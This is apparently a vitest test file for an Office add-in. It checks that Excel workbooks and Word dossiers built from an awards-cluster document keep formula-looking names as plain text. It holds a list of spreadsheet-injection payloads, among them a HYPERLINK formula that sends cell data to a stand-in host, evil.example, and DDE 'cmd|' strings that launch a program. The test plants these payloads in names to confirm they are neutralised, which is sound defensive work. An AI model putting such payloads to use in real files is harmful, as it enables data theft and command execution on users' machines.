/**
 * Formula-looking names stay text in every writer (issue 10, "hostile text, everywhere it is written"): a
 * person, a unit, a criterion or the cluster named "=HYPERLINK(…)", "+cmd|…", "-2+3", "@SUM(…)", or starting
 * with a tab or a carriage return is written as a string cell by the file host (exceljs) in the cluster
 * workbook and the nomination sheets, and as plain runs (never a field) in the Word dossier. The outputs are
 * real files, read back as packages: cell types from the sheet XML and exceljs, runs from word/document.xml.
 */
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { documentBytes } from '../../addin/host/docx';
import { planToBytes } from '../../addin/host/xlsx/workbook-files';
import {
  type ClusterDocument,
  computeCluster,
  nominateAwards,
  parseClusterDocument,
  proposeRotation,
} from '../../core';
import { buildClusterWorkbook } from '../../templates';
import { buildDossier } from '../../templates/dossier';
import { buildNominationWorkbook } from '../../templates/nomination';

const root = join(import.meta.dirname, '../..');

/** What a spreadsheet would run if the text became a formula; each ends in a marker found in the output. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"xem")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
];

/** The sample with every person, one unit, every criterion title and the cluster named by a payload. */
function hostileDocument(): ClusterDocument {
  let text = readFileSync(join(root, 'templates/samples/cum-7-2022.json'), 'utf8');
  const sample = JSON.parse(text) as ClusterDocument;
  const people = (sample.people ?? []).map((p) => p.name);
  // Names are replaced in the text, so every reference (votes, decisions…) follows.
  people.forEach((name, i) => {
    text = text.split(JSON.stringify(name)).join(JSON.stringify(`${PAYLOADS[i % PAYLOADS.length]} ${name}`));
  });
  const unit = 'VKSND tỉnh Kon Tum';
  text = text.split(JSON.stringify(unit)).join(JSON.stringify(`${PAYLOADS[0]} ${unit}`));
  const doc = JSON.parse(text) as ClusterDocument;
  doc.cluster.name = `${PAYLOADS[3]} ${doc.cluster.name}`;
  doc.criteria = doc.criteria.map((c, i) => ({ ...c, title: `${PAYLOADS[i % PAYLOADS.length]} ${c.title}` }));
  const parsed = parseClusterDocument(doc);
  if (!parsed.doc) throw new Error('the hostile sample does not parse');
  return parsed.doc;
}

const decodeXml = (s: string) =>
  s
    .replace(/&#(\d+);/g, (_, n) => String.fromCodePoint(Number(n)))
    .replace(/&#x([0-9a-f]+);/gi, (_, n) => String.fromCodePoint(Number.parseInt(n, 16)))
    .replace(/_x000([9dD])_/g, (_, c) => (c === '9' ? '\t' : '\r'))
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');

/** Every formula of every sheet of an .xlsx, and every text the package holds (shared and inline strings). */
async function xlsxParts(bytes: Uint8Array): Promise<{ formulas: string[]; strings: string[] }> {
  const zip = await JSZip.loadAsync(bytes);
  const formulas: string[] = [];
  const strings: string[] = [];
  for (const [name, entry] of Object.entries(zip.files)) {
    if (!/^xl\/(worksheets\/sheet\d+|sharedStrings)\.xml$/.test(name)) continue;
    const xml = await entry.async('string');
    for (const m of xml.matchAll(/<f(?:\s[^>]*)?>([^<]*)<\/f>/g)) formulas.push(decodeXml(m[1]!));
    for (const m of xml.matchAll(/<t(?:\s[^>]*)?>([^<]*)<\/t>/g)) strings.push(decodeXml(m[1]!));
  }
  return { formulas, strings };
}

/** Cells whose shown text starts with a payload: each must be a plain string cell, never a formula. */
async function payloadCells(bytes: Uint8Array) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const found: { where: string; type: ExcelJS.ValueType; formula: string | undefined; text: string }[] = [];
  wb.eachSheet((sheet) =>
    sheet.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        // The other cells of a merged range show their first cell's text: that one is looked at.
        if (cell.type === ExcelJS.ValueType.Merge) return;
        const text = typeof cell.value === 'string' ? cell.value : cell.text;
        if (PAYLOADS.some((p) => text.includes(p.trim().slice(0, 8))))
          found.push({
            where: `${sheet.name}!${cell.address}`,
            type: cell.type,
            formula: cell.formula,
            text,
          });
      }),
    ),
  );
  return found;
}

/** No formula of the package runs a payload (a HYPERLINK to the leak, a DDE "cmd|"). */
function expectNoPayloadFormula(formulas: string[]) {
  for (const formula of formulas) {
    // A sheet named after a unit is referred to by its quoted name ('…'!C3): a reference, nothing that runs.
    const f = formula.replace(/'(?:[^']|'')*'!/g, '');
    expect(f).not.toContain('evil.example');
    expect(f).not.toContain('cmd|');
  }
}

describe('formula-looking names stay text', () => {
  let doc: ClusterDocument;
  let computation: ReturnType<typeof computeCluster>;
  let report: ReturnType<typeof nominateAwards>;
  beforeAll(() => {
    doc = hostileDocument();
    computation = computeCluster(doc);
    report = nominateAwards(doc, computation.result);
  });

  it('the sample holds the payloads where they are written', () => {
    expect(doc.people!.some((p) => p.name.startsWith('=HYPERLINK'))).toBe(true);
    expect(doc.units.some((u) => u.name.startsWith('=HYPERLINK'))).toBe(true);
    // Somebody with a payload name is proposed, so the nomination sheets carry one.
    expect(report.nominations.some((n) => PAYLOADS.some((p) => n.candidate.startsWith(p)))).toBe(true);
  });

  it('the cluster workbook (file host, exceljs): string cells, no payload formula', async () => {
    const { bytes } = await planToBytes(
      buildClusterWorkbook(doc, computation, { now: '2026-01-01T00:00:00Z' }),
    );
    const { formulas, strings } = await xlsxParts(bytes);
    expect(formulas.length).toBeGreaterThan(0);
    expectNoPayloadFormula(formulas);
    for (const p of PAYLOADS)
      expect(
        strings.some((s) => s.startsWith(p)),
        JSON.stringify(p),
      ).toBe(true);
    const cells = await payloadCells(bytes);
    expect(cells.length).toBeGreaterThan(10);
    for (const c of cells) {
      if (c.formula !== undefined) {
        // A summary cell showing the member list's name: a plain reference to the cell that holds the text.
        expect(c.formula, c.where).toMatch(/^'(?:[^']|'')*'!\$?[A-Z]+\$?\d+$/);
        continue;
      }
      expect([ExcelJS.ValueType.String, ExcelJS.ValueType.RichText], c.where).toContain(c.type);
    }
    expect(cells.filter((c) => c.formula === undefined).length).toBeGreaterThan(10);
  });

  it('the nomination sheets: string cells, no payload formula', async () => {
    const plan = buildNominationWorkbook(doc, report, { result: computation.result, date: '2022-12-20' });
    const { bytes } = await planToBytes(plan);
    const { formulas, strings } = await xlsxParts(bytes);
    expectNoPayloadFormula(formulas);
    const proposed = report.nominations
      .map((n) => n.candidate)
      .filter((c) => PAYLOADS.some((p) => c.startsWith(p)));
    for (const name of proposed) expect(strings.join('\n'), JSON.stringify(name)).toContain(name);
    const cells = await payloadCells(bytes);
    expect(cells.length).toBeGreaterThan(0);
    for (const c of cells) {
      expect(c.formula, c.where).toBeUndefined();
      expect([ExcelJS.ValueType.String, ExcelJS.ValueType.RichText], c.where).toContain(c.type);
    }
  });

  it('the Word dossier (docx): names in plain runs, never in a field', async () => {
    const dossier = buildDossier({
      doc,
      result: computation.result,
      report,
      rotation: proposeRotation(doc),
      fingerprint: 'ABCD-1234-EF',
    });
    let seen = 0;
    for (const d of dossier.documents) {
      const zip = await JSZip.loadAsync(await documentBytes(d));
      const xml = await zip.file('word/document.xml')!.async('string');
      // Fields (HYPERLINK, DDE, INCLUDETEXT…) are what a Word document runs: none carries a payload.
      for (const m of xml.matchAll(
        /<w:instrText[^>]*>([^<]*)<\/w:instrText>|<w:fldSimple[^>]*w:instr="([^"]*)"/g,
      )) {
        const instr = decodeXml(m[1] ?? m[2] ?? '');
        expect(instr).not.toContain('evil.example');
        expect(instr).not.toContain('cmd|');
      }
      expect(xml).not.toMatch(/<w:hyperlink[^>]*>(?:(?!<\/w:hyperlink>).)*evil\.example/s);
      const runs = [...xml.matchAll(/<w:t(?:\s[^>]*)?>([^<]*)<\/w:t>/g)]
        .map((m) => decodeXml(m[1]!))
        .join('');
      if (runs.includes('=HYPERLINK("http://evil.example')) seen++;
    }
    // The unit and people with payload names appear as text in the documents that name them.
    expect(seen).toBeGreaterThan(0);
  });
});
